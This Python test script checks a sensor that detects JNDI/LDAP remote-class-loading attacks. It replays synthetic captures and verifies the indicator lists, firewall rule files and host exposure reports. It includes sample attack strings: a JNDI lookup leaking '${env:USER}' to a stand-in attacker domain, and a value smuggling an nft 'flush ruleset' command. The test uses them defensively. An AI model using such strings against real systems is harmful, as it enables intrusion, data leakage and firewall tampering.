#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""learned.py SENSOR: the files of outputs.learned and outputs.exposure after whole attacks (docs/IOCS.md).

What they hold, that a hostile name adds no line to them, that the list reader takes them, that one and two workers write the
same bytes, and that nft and ipset, where installed, take theirs.
"""
import hashlib
import json
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile

import sensor as lab
from tale import EVIL, SCANNER, Tale, VICTIM, java_class

OTHER = "10.0.0.12"
THIRD, BYSTANDER = "203.0.113.50", "192.0.2.200"
SHA = hashlib.sha256(java_class("Payload")).hexdigest()
HOSTILE = "ldap://x};flush ruleset\nadd a.evil.example:1389/a b"


def story():
    tale = Tale()
    tale.lookup("ldap://%s:1389/a" % EVIL)
    tale.search(codebase="http://%s:8888/" % EVIL)
    tale.fetch(agent="Java/1.8.0_181")
    tale.referred("ldap://%s:1390/b" % THIRD)
    tale.search("b", server=THIRD, port=1390, codebase="http://%s/" % BYSTANDER)  # where nobody ever calls
    tale.lookup("ldap://${env:USER}.evil.example/a", victim=OTHER, sender="198.51.100.77")
    tale.asks("root.evil.example", client=OTHER)
    tale.lookup("ldap://198.51.100.200/never", victim="10.0.0.13")  # a mere attempt
    tale.lookup(HOSTILE.replace("\n", "%0a"), victim="10.0.0.14")
    tale.between("10.0.0.15", "192.0.2.80").tcp(80, [
        ("c", b"GET / HTTP/1.1\r\nHost: x.example\r\nUser-Agent: Apache-HttpClient/4.5.13 (Java/17.0.15)\r\n\r\n"),
        ("s", b"HTTP/1.1 204 No Content\r\n\r\n")])
    tale.wait(10)
    return tale


SHARED_ADDR, CDN = "192.0.2.140", "104.16.9.9"


def shared():
    """The class lies where many keep theirs, and a lookup sends a victim to everybody's resolver."""
    tale = Tale()
    tale.lookup("ldap://%s:1389/a" % EVIL)
    tale.search(codebase="http://raw.githubusercontent.com/x/")
    tale.fetch(server=SHARED_ADDR, port=80, host="raw.githubusercontent.com", path="/x/Payload.class")  # nobody saw it resolved
    for number, place in enumerate(("8.8.8.8", CDN, "127.0.0.1", "169.254.169.254", "192.0.2.141", "192.0.2.142")):
        victim = "10.0.0.%d" % (20 + number)
        tale.lookup("ldap://%s:1389/a" % place, victim=victim)
        tale.search(client=victim, server=place)
    tale.asks("codeload.github.com", answer="192.0.2.141")  # known only when its address has been learned
    tale.wait(10)
    return tale


def check_shared(files):
    bad = expect("addresses", sorted([EVIL, "192.0.2.142"]), items(files["learned-address.list"]))
    bad += expect("domains", [], items(files["learned-domain.list"]))
    return bad + expect("URLs", ["http://raw.githubusercontent.com/x/"], items(files["learned-url.list"]))


def run(program, path, folder, *sets):
    folder.mkdir()
    extra = ["-l", str(folder), "-s", str(lab.TOP / "rules/incidents.rules")]
    for each in ("outputs.learned.enabled=yes", "outputs.exposure.enabled=yes", *sets):
        extra += ["--set", each]
    lab.replay(program, path, extra=extra)
    return {file.name: file.read_text() for file in folder.iterdir() if file.name != "eve.json"}


def items(text):
    return sorted(line.split(" #")[0] for line in text.splitlines())


def expect(what, expected, found):
    return [] if expected == found else ["%s: expected\n  %r, found\n  %r" % (what, expected, found)]


def check_learned(files):
    bad = expect("files", {"learned.jsonl", "learned.nft", "learned.ipset", "exposure.jsonl"} |
                 {"learned-%s.list" % kind for kind in ("address", "sender", "domain", "url", "sha256")}, set(files))
    bad += expect("addresses", [THIRD, EVIL], items(files["learned-address.list"]))
    bad += expect("senders", sorted([SCANNER, "198.51.100.77"]), items(files["learned-sender.list"]))
    bad += expect("domains", ["evil.example"], items(files["learned-domain.list"]))
    bad += expect("URLs", sorted(["http://%s:8888/" % EVIL, "ldap://%s:1390/b" % THIRD, "http://%s/" % BYSTANDER]), items(files["learned-url.list"]))
    bad += expect("hashes", [SHA], items(files["learned-sha256.list"]))
    adds = [line for line in files["learned.nft"].splitlines() if line.startswith("add element")]
    bad += expect("nft", ["add element inet jndi_sensor callbacks4 { %s }" % each for each in (THIRD, EVIL)], adds)
    adds = [line for line in files["learned.ipset"].splitlines() if line.startswith("add")]
    bad += expect("ipset", ["add jndi_callbacks4 %s -exist" % each for each in (THIRD, EVIL)], adds)
    known = {(row["kind"], row["indicator"]): row for row in map(json.loads, files["learned.jsonl"].splitlines())}
    bad += expect("verdict", "delivered", known["address", EVIL]["verdict"])
    bad += expect("verdict", "vulnerable", known["domain", "evil.example"]["verdict"])
    return bad


def check_exposure(text):
    hosts = {row["src_ip"]: row["exposure"] for row in map(json.loads, text.splitlines())}
    bad = expect("hosts", [VICTIM, OTHER, "10.0.0.15"], list(hosts))
    bad += expect("victim", ("yes", True, "delivered", ["1.8.0_181"]),
                  (hosts[VICTIM]["loads_remote_classes"], hosts[VICTIM]["called_back"], hosts[VICTIM]["verdict"],
                   [java["version"] for java in hosts[VICTIM]["java"]]))
    bad += expect("what its Java did", {"user_agent", "ldap", "fetch"}, set(hosts[VICTIM]["seen"]))
    bad += expect("a host that only asked for a name", ("unknown", True), (hosts[OTHER]["loads_remote_classes"], hosts[OTHER]["called_back"]))
    bad += expect("a bystander", ("no", False), (hosts["10.0.0.15"]["loads_remote_classes"], hosts["10.0.0.15"]["called_back"]))
    return bad


def check_tools(files, folder):
    """As far as they are installed: in a network namespace of its own, where nobody else's tables are."""
    alone = ["unshare", "--user", "--map-root-user", "--net"]
    if not shutil.which("nft") or subprocess.run(alone + ["nft", "list", "tables"], capture_output=True).returncode != 0:
        print("nft: not installed, or no network namespace may be made here: its file is only read")
        return []
    bad = []
    for only in (["-c"], []):
        done = subprocess.run(alone + ["nft", *only, "-f", str(folder / "learned.nft")], capture_output=True, text=True)
        bad += expect("nft %s" % only, ("", 0), (done.stderr, done.returncode))
    twice = "nft -f $0 && nft -f $0 && nft list table inet jndi_sensor"  # what is replaced while it is in use
    done = subprocess.run(alone + ["sh", "-c", twice, str(folder / "learned.nft")], capture_output=True, text=True)
    held = sorted(re.findall(r"\d+\.\d+\.\d+\.\d+", done.stdout))
    return bad + expect("what nft holds", sorted(items(files["learned-address.list"])), held)


def main():
    program, bad = sys.argv[1], []
    with tempfile.TemporaryDirectory() as name:
        top = pathlib.Path(name)
        path = top / "story.pcap"
        story().write(path)
        files = run(program, path, top / "one")
        bad += check_learned(files) + check_exposure(files["exposure.jsonl"]) + check_tools(files, top / "one")
        if run(program, path, top / "two", "workers=2") != files:
            bad.append("two workers write other files")
        later = run(program, path, top / "three", "outputs.learned.from=delivered")
        bad += expect("domains of those that were delivered", [], items(later["learned-domain.list"]))
        bad += expect("addresses of those", [THIRD, EVIL], items(later["learned-address.list"]))
        early = run(program, path, top / "four", "outputs.learned.from=attempted")
        bad += expect("addresses of attempts", sorted([EVIL, THIRD, "198.51.100.200"]), items(early["learned-address.list"]))
        if any("flush ruleset" in line for line in early["learned.nft"].splitlines()):
            bad.append("a hostile name in nft's file")
        allowed = run(program, path, top / "five", "vars.address-groups.LDAP_ALLOWED=[%s]" % EVIL)
        bad += expect("what LDAP_ALLOWED explains", [], items(allowed["learned-sha256.list"]))
        other = top / "shared.pcap"
        shared().write(other)
        bad += check_shared(run(program, other, top / "six"))
        free = run(program, other, top / "seven", "iocs.never-files=")
        bad += expect("without the list", sorted([EVIL, "8.8.8.8", CDN, SHARED_ADDR, "192.0.2.141", "192.0.2.142"]),
                      items(free["learned-address.list"]))
        bad += expect("without the list, domains", ["raw.githubusercontent.com"], items(free["learned-domain.list"]))
        reread = ",".join(str(top / "four" / file) for file in sorted(early) if file.endswith(".list"))
        lab.replay(program, path, extra=["--set", "iocs.files=" + reread])  # its own lists, or a complaint
    if bad:
        sys.exit("\n".join(bad))
    print("as expected")


if __name__ == "__main__":
    main()
